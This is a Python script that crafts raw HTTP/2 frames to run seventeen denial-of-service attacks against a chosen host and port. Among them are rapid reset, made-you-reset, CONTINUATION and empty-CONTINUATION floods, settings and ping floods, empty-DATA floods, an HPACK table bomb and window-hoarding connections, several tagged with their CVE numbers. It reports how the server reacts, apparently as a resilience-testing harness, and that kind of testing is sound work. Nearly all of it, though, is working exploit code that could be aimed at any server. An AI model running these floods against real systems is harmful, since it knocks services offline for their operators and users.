"""HTTP/2 from clients who are not after answers, made by hand from bytes. Prints one JSON document.

usage: h2_floods.py CASE HOST PORT PATH

Each attack goes on for as long as it is let, and at most for so many frames (`most`): `sent` of them were, `goaway` is the
code with which the server said goodbye, `closed` whether it left, `answers` how many heads came, `bodies` how long what
came behind them was, each length once, `acked` how many pings and settings were answered, `reset` with which codes streams
were, and `window` how much of the first stream might be sent in all.
"""
import fcntl, json, select, socket, struct, sys, termios, time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
WINDOW_MAX = 0x7FFF_FFFF
# What a window is before anybody says so, of a stream and of a connection.
WINDOW_DEFAULT = 65_535
FRAME_LEN_MAX = 16_384
# How long the server may take to leave, once nothing more is sent.
PATIENCE = 20


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def setting(name, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", name, value))


def opened(stream, by):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", by))


class Attacker:
    # When every attack ends, be it half-way.
    until = float("inf")

    def __init__(self, host, port, *first, takes=None):
        self.socket = socket.socket()
        if takes is not None:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, takes)
        self.socket.connect((host, port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}".encode()
        self.sent, self.most, self.answers, self.acked, self.goaway, self.reset = 0, None, 0, 0, None, {}
        self.closed, self.came, self.heads, self.bodies, self.settled = False, b"", {}, {}, False
        # What the server lets be sent: of each stream, of all (0), and what a new stream begins with.
        self.windows, self.window = {0: WINDOW_DEFAULT}, WINDOW_DEFAULT
        self.socket.sendall(PREFACE + (b"".join(first) or frame(SETTINGS, 0, 0)))
        # The server's settings are acknowledged first: an acknowledgement within a head that goes on would end it.
        self.wait(lambda: self.settled)

    def head(self, path, method=0x82):
        """A field block: GET (or PUT), http, the path, the authority; nothing is put into the table of fields."""
        first = bytes([method]) if isinstance(method, int) else b"\x02" + bytes([len(method)]) + method
        path = path.encode()
        return first + b"\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(self.authority)]) + self.authority

    def ask(self, stream, path):
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, self.head(path))

    def send(self, *frames):
        """Whether the server takes more."""
        try:
            self.socket.sendall(b"".join(frames))
            self.sent += len(frames)
        except OSError:
            self.closed = True
        self.look(0)
        return self.goes_on()

    def goes_on(self):
        return not self.closed and self.goaway is None and time.monotonic() < Attacker.until

    def is_cut(self):
        """Whether the server is gone, whatever it has sent that is not read."""
        looked = select.poll()
        looked.register(self.socket, select.POLLRDHUP)
        return bool(looked.poll(0))

    def look(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed:
            ready, _, _ = select.select([self.socket], [], [], max(0, end - time.monotonic()))
            if not ready:
                return
            try:
                piece = self.socket.recv(1 << 16)
            except OSError:
                piece = b""
            if not piece:
                self.closed = True
            self.came += piece
            self.read()

    def wait(self, until, patience=PATIENCE):
        """Reads until something is so, or the server says goodbye."""
        end = min(time.monotonic() + patience, Attacker.until)
        while not until() and self.goes_on() and time.monotonic() < end:
            select.select([self.socket], [], [], 0.05)
            self.look(0)

    def read(self):
        begin = 0
        while len(self.came) >= begin + 9:
            end = begin + 9 + int.from_bytes(self.came[begin:begin + 3], "big")
            if len(self.came) < end:
                break
            kind, flags = self.came[begin + 3], self.came[begin + 4]
            stream, body = int.from_bytes(self.came[begin + 5:begin + 9], "big"), self.came[begin + 9:end]
            begin = end
            if kind == HEADERS:
                self.answers += 1
                self.heads.setdefault(stream, body)
            elif kind == DATA:
                self.bodies[stream] = self.bodies.get(stream, 0) + len(body)
            elif kind == RST_STREAM:
                self.reset[stream] = self.reset.get(stream, set()) | {int.from_bytes(body, "big")}
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(body[4:8], "big")
            elif kind == WINDOW_UPDATE:
                self.windows[stream] = self.windows.get(stream, self.window) + int.from_bytes(body, "big")
            elif kind in (PING, SETTINGS) and flags & ACK:
                self.acked += 1
            elif kind == SETTINGS:
                said = dict(struct.unpack(">HI", body[at:at + 6]) for at in range(0, len(body), 6))
                self.window = said.get(INITIAL_WINDOW_SIZE, self.window)
                self.settled = True
                try:
                    self.socket.sendall(frame(SETTINGS, ACK, 0))
                except OSError:
                    self.closed = True
        self.came = self.came[begin:]

    def end(self, patience=PATIENCE):
        """Waits until the server has left, if it says goodbye or is to."""
        end = min(time.monotonic() + patience, Attacker.until)
        while not self.closed and time.monotonic() < end:
            self.look(0.2)
        self.socket.close()
        return {"sent": self.sent, "most": self.most, "answers": self.answers, "acked": self.acked,
                "bodies": sorted(set(self.bodies.values())), "goaway": self.goaway, "closed": self.closed,
                "reset": sorted(set().union(*self.reset.values())), "window": self.windows.get(1, self.window)}


def rapid_reset(to, path):
    """Requests that are given up in the same breath (CVE-2023-44487)."""
    it = Attacker(*to)
    for stream in range(1, 200_001, 2):
        if not it.send(it.ask(stream, path), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
            break
    return it.end()


def made_to_reset(to, path):
    """Requests that the server has to reset itself: a window that grows past what there is (CVE-2025-8671)."""
    it = Attacker(*to)
    for stream in range(1, 200_001, 2):
        if not it.send(it.ask(stream, path), opened(stream, WINDOW_MAX)):
            break
    return it.end()


def continuation(to, path):
    """A head that never ends (CVE-2024-27316)."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_STREAM, 1, it.head(path)))
    field = b"\x00\x01x\x7f\x81\x01" + b"v" * 256
    for _ in range(100_000):
        if not it.send(frame(CONTINUATION, 0, 1, field * 40)):
            break
        it.look(0.005)
    return it.end()


def empty_continuation(to, path):
    """The same, of nothing."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_STREAM, 1, it.head(path)))
    for _ in range(5000):
        if not it.send(*[frame(CONTINUATION, 0, 1)] * 100):
            break
    return it.end()


def overflow(to, path):
    """A window for all streams that grows past what there is (section 6.9.1 of RFC 9113)."""
    it = Attacker(*to)
    it.send(opened(0, WINDOW_MAX))
    return it.end()


def nothing_more(to, path):
    """A window that is opened by nothing."""
    it = Attacker(*to)
    it.send(opened(0, 0))
    return it.end()


def too_wide(to, path):
    """A setting that no window may have."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, WINDOW_MAX + 1))
    return it.end()


def tiny_windows(to, path):
    """A byte at a time, of many streams."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 1))
    streams, turns = range(1, 101, 2), 200
    it.most = len(streams) * (1 + turns)
    for stream in streams:
        it.send(it.ask(stream, path))
    for turn in range(turns):
        if not it.send(*(opened(stream, 1) for stream in streams)):
            break
        it.look(0.005)
    it.wait(lambda: sum(it.bodies.values()) == len(streams) * (1 + turns))
    return it.end(1)


def seesaw(to, path):
    """Windows that are closed and opened again while everything waits."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 0))
    streams, turns = range(1, 101, 2), 20_000
    it.most = len(streams) + turns
    for stream in streams:
        it.send(it.ask(stream, path))
    for turn in range(turns):
        if not it.send(setting(INITIAL_WINDOW_SIZE, turn % 2)):
            break
    it.wait(lambda: it.acked == 1 + turns)
    return it.end(1)


def settings(to, path):
    """Settings without end, each of which wants an answer that is not taken (CVE-2019-9515)."""
    # The first are acknowledged, too.
    return flood(Attacker(*to), frame(SETTINGS, 0, 0), 1)


def pings(to, path):
    """The same of pings (CVE-2019-9512)."""
    return flood(Attacker(*to), frame(PING, 0, 0, b"8 bytes!"), 1)


def flood(it, one, before):
    """Sends and takes nothing, as long as the server takes it; then takes what was answered."""
    it.most = 2_000_000
    it.socket.setblocking(False)
    rest, passed, end = b"", 0, min(time.monotonic() + 3, Attacker.until)
    while time.monotonic() < end and passed < it.most * len(one):
        # A frame that was taken in part goes on where it stopped.
        rest = rest or one * 1000
        try:
            taken = it.socket.send(rest)
            rest, passed = rest[taken:], passed + taken
        except BlockingIOError:
            time.sleep(0.01)
        except OSError:
            it.closed = True
            break
    it.socket.setblocking(True)
    it.sent = -(-passed // len(one))
    cut = it.sent * len(one) - passed
    # Room for the end of the last one is there only once the server reads on, which it does when its answers are taken.
    while cut and it.goes_on():
        it.look(0.01)
        _, ready, _ = select.select([], [it.socket], [], 0)
        if ready:
            cut -= it.socket.send(rest[:cut])
            rest = rest[-cut:] if cut else b""
    it.wait(lambda: it.acked == before + it.sent)
    return it.end(1)


def empty_data(to, path):
    """A recording of nothing, in pieces of nothing (CVE-2019-9518)."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_HEADERS, 1, it.head("/recordings/of-nothing/media", b"PUT")))
    for _ in range(2000):
        if not it.send(*[frame(DATA, 0, 1)] * 100):
            break
    it.send(frame(DATA, END_STREAM, 1))
    return it.end(2)


def past_the_window(to, path):
    """A recording that is sent whether the server lets it be sent or not (section 6.9.1 of RFC 9113)."""
    it = Attacker(*to)
    it.most = 1024
    it.send(frame(HEADERS, END_HEADERS, 1, it.head("/recordings/past-the-window/media", b"PUT")))
    # Somewhat more than there is room for at first, again and again.
    while it.sent < it.most:
        if not it.send(*[frame(DATA, 0, 1, bytes(FRAME_LEN_MAX))] * 24):
            break
        it.look(0.02)
    # It is that stream's fault, and the others may go on.
    return it.end(1)


def table_bomb(to, path):
    """A long field that is said once, and then referred to by a byte, as often as a head has bytes."""
    it = Attacker(*to)
    it.most = 100
    value = 3900 - 127
    field = b"\x40\x01x\x7f" + bytes([0x80 | value & 0x7F, value >> 7]) + b"v" * 3900
    for stream in range(1, 2 * it.most, 2):
        block = it.head(path) + (field if stream == 1 else b"")
        # The newest of the table, whose first 61 are everybody's.
        block += b"\xbe" * (FRAME_LEN_MAX - len(block))
        if not it.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)):
            break
    return it.end()


def hoard(to, path, connections, window=WINDOW_MAX):
    """As many answers as may be asked for. Windows as wide as there are, and a socket that nobody reads (CVE-2019-9517); or
    windows of next to nothing (CVE-2019-9511)."""
    windows = setting(INITIAL_WINDOW_SIZE, window) + opened(0, WINDOW_MAX - WINDOW_DEFAULT)
    them = [Attacker(*to, windows, takes=4096) for _ in range(connections)]
    for it in them:
        it.most = 100
        it.socket.sendall(b"".join(it.ask(stream, path) for stream in range(1, 2 * it.most, 2)))
        it.sent = it.most
    # Until the system has taken no more for a while: what is still made waits in the server.
    unread, since = None, time.monotonic()
    while time.monotonic() < since + 2:
        now = [struct.unpack("i", fcntl.ioctl(it.socket, termios.FIONREAD, bytes(4)))[0] for it in them]
        if now != unread:
            unread, since = now, time.monotonic()
        time.sleep(0.05)
    # They wait still: what one has read by now is all that it is given, and it is given more as soon as it reads.
    left = [it for it in them if not it.is_cut()]
    left[0].wait(lambda: left[0].answers == left[0].most)
    return {**left[0].end(0), "cut": connections - len(left)}


def one_hoard(to, path):
    return hoard(to, path, 1)


def twenty_hoards(to, path):
    return hoard(to, path, 20)


def twenty_narrow_hoards(to, path):
    return hoard(to, path, 20, window=1)


CASES = {case.__name__.replace("_", "-"): case
         for case in (rapid_reset, made_to_reset, continuation, empty_continuation, overflow, nothing_more, too_wide,
                      tiny_windows, seesaw, settings, pings, empty_data, past_the_window, table_bomb, one_hoard,
                      twenty_hoards, twenty_narrow_hoards)}

if __name__ == "__main__":
    case, host, port, path = sys.argv[1:]
    print(json.dumps(CASES[case]((host, int(port)), path)))
